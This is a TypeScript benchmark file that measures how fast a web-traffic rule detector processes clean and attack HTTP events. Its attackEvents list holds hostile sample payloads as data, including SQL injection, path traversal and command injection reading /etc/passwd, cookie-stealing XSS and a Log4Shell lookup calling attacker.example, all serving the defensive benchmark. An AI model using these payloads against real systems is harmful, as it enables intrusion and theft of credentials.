/**
 * Speed of RuleDetector on clean, benign-looking events and on attack events: events/s (wall clock),
 * CPU µs per event (process.cpuUsage, less distorted on a shared machine) and work per event.
 * Measure compiled code, not tsx (its import wrapping distorts hot loops):
 *   npx tsc -p tsconfig.bench.json && ln -sfn ../../rules .bench/build/rules && node .bench/build/bench/detect-rules.js
 */
import os from 'node:os';
import type { HttpEvent } from '../src/core/event.js';
import { bundledRulePaths, loadRulePacks, RuleDetector } from '../src/detect/rules/index.js';

const UA = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36';

function event(i: number, path: string, query: string, ua = UA): HttpEvent {
  return {
    id: `bench-${i}`, time: 1_700_000_000_000 + i, ip: `10.0.${(i >> 8) & 255}.${i & 255}`, peerIp: null, method: 'GET', host: 'shop.example',
    path, query, protocol: 'HTTP/1.1', status: 200, bytes: 1234, referer: 'https://shop.example/', userAgent: ua,
    requestTime: null, ja4: null, ja4h: null, headers: null, origin: { kind: 'api', source: 'bench', receivedAt: 0 },
  };
}

export function cleanEvents(n: number): HttpEvent[] {
  const paths = ['/', '/products/4711', '/image/60844/productModel/200x200', '/static/css/main.3f2a.css', '/api/v1/cart/items', '/filter/b113,p53', '/search', '/blog/2019/01/how-to-choose-a-phone'];
  const queries = ['', '', 'page=2&sort=price', 'q=samsung+galaxy+s9&category=phones', 'beginTime=2020-11-19+00:00:00&endTime=2020-11-25+03:43:37&size=100', 'utm_source=newsletter&utm_medium=email'];
  return Array.from({ length: n }, (_, i) => event(i, paths[i % paths.length] as string, queries[i % queries.length] as string));
}

export function attackEvents(n: number): HttpEvent[] {
  const cases: [string, string, string?][] = [
    ['/search', 'q=1%27%20union%20select%201,2,concat(user(),0x3a,version())--%20-'],
    ['/item', 'id=1%20and%20sleep(5)'],
    ['/index.php', 'page=..%2f..%2f..%2f..%2fetc%2fpasswd'],
    ['/comment', 'text=%3Cscript%3Ealert(document.cookie)%3C/script%3E'],
    ['/ping', 'host=127.0.0.1;cat%20/etc/passwd'],
    ['/', '', '${jndi:ldap://attacker.example/a}'],
    ['/.env', ''],
    ['/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', ''],
    ['/', '', 'sqlmap/1.7.8#stable (https://sqlmap.org)'],
  ];
  return Array.from({ length: n }, (_, i) => {
    const c = cases[i % cases.length] as [string, string, string?];
    return event(i, c[0], c[1], c[2] ?? UA);
  });
}

export interface RulesBench {
  /** With the result cache (the bench repeats a few values, so this is mostly cache hits). */
  clean: number;
  attack: number;
  /** CPU time (user + system) per event, µs. */
  cleanCpuUs: number;
  attackCpuUs: number;
  cleanRegexPerEvent: number;
  cleanBytesPerEvent: number;
  /** Without the result cache: every field scanned, decoded and matched (unique-value traffic). */
  uncached: { clean: number; attack: number; cleanCpuUs: number; attackCpuUs: number; cleanRegexPerEvent: number; cleanBytesPerEvent: number };
}

export function benchRules(n = 200_000): RulesBench {
  const set = loadRulePacks(bundledRulePaths());
  const cached = measure(new RuleDetector(set), n);
  return { ...cached, uncached: measure(new RuleDetector(set, { resultCache: false }), n) };
}

function measure(det: RuleDetector, n: number): Omit<RulesBench, 'uncached'> {
  const run = (events: HttpEvent[]) => {
    for (let i = 0; i < 20_000; i += 500) det.detect(events.slice(i, i + 500), undefined); // warm-up
    const before = { ...det.stats };
    const cpu0 = process.cpuUsage();
    const t0 = performance.now();
    for (let i = 0; i < events.length; i += 500) det.detect(events.slice(i, i + 500), undefined);
    const s = (performance.now() - t0) / 1000;
    const cpu = process.cpuUsage(cpu0);
    return {
      rate: events.length / s,
      cpuUs: (cpu.user + cpu.system) / events.length,
      regex: (det.stats.regexRuns - before.regexRuns) / events.length,
      bytes: (det.stats.bytesScanned - before.bytesScanned) / events.length,
    };
  };
  const clean = run(cleanEvents(n));
  const attack = run(attackEvents(n));
  return {
    clean: clean.rate,
    attack: attack.rate,
    cleanCpuUs: clean.cpuUs,
    attackCpuUs: attack.cpuUs,
    cleanRegexPerEvent: clean.regex,
    cleanBytesPerEvent: clean.bytes,
  };
}

if (import.meta.url === `file://${process.argv[1]}`) {
  const r = benchRules();
  const line = (name: string, x: Omit<RulesBench, 'uncached'>) =>
    console.log(
      `RuleDetector ${name}: clean ${Math.round(x.clean)} events/s, ${x.cleanCpuUs.toFixed(2)} µs CPU/event ` +
        `(${x.cleanRegexPerEvent.toFixed(2)} regex runs, ${Math.round(x.cleanBytesPerEvent)} chars scanned per event); ` +
        `attack ${Math.round(x.attack)} events/s, ${x.attackCpuUs.toFixed(2)} µs CPU/event; load ${os.loadavg()[0]?.toFixed(1)}`,
    );
  line('(result cache)', r);
  line('(no cache)', r.uncached);
}
